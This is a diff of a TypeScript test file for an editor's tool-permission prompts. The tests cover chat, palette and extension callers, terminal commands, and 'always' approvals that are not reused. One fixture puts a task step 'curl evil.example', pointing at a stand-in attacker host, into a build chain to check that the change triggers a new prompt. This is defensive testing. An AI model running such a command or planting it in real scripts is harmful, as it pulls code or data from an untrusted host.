@@ -38,7 +38,7 @@ describe('What the chat, Run Tool and other extensions may do in the editor', ()
     running.editor.acting.done.filter((done) => what.includes(String((done as unknown[])[0])));
 
   it('is asked about with exactly what would run, once, and never for always', async () => {
-    const { chain } = running.editor.tests.nextPlan;
+    const { chain } = running.editor.tests.nextPart;
     const askers = [
       ['chat', { kind: 'model', name: 'Claude' }],
       ['palette', { kind: 'person' }],
@@ -53,7 +53,7 @@ describe('What the chat, Run Tool and other extensions may do in the editor', ()
         { kind: 'task', name: 'build', definition: '{"runs":"make"}', chain: { steps: [], unknown: [] } },
         true,
       ],
-      ['run_terminal_command', { command: 'make' }, { kind: 'command', commandLine: 'make', cwd: '/demo' }, false],
+      ['run_terminal_command', { command: 'make' }, { kind: 'command', commandLine: 'make', cwd: '/demo', terminal: '/bin/sh' }, false],
       ['save_file', { path: 'src/a.ts' }, { kind: 'save', path: 'src/a.ts' }, true],
     ] as const;
     for (const [principal, asker] of askers) {
@@ -116,7 +116,7 @@ describe('What the chat, Run Tool and other extensions may do in the editor', ()
   it('is not allowed by what was allowed of the tool before it asked by itself', async () => {
     const tool = host.server('editor').tools.find(({ name }) => name === 'run_terminal_command');
     assert.ok(tool);
-    const request = callRequest('chat', { serverId, server: 'editor', tool, risk: 'runsCode' });
+    const request = callRequest('chat', { serverId, server: 'editor', identity: '', tool, risk: 'runsCode' });
     await host.ledger.remember(request, 'allow', 'always');
     assert.equal((await host.call('run_terminal_command', { command: 'make' }, { serverId })).kind, 'denied');
     assert.equal(host.asked.length, 1);
@@ -132,8 +132,8 @@ describe('What the chat, Run Tool and other extensions may do in the editor', ()
     await run();
     await run();
     assert.equal(host.asked.length, 1);
-    running.editor.tests.nextPlan = {
-      ...running.editor.tests.nextPlan,
+    running.editor.tests.nextPart = {
+      ...running.editor.tests.nextPart,
       chain: { steps: [{ name: 'scripts.test', text: 'curl evil.example' }], unknown: [] },
     };
     await run();
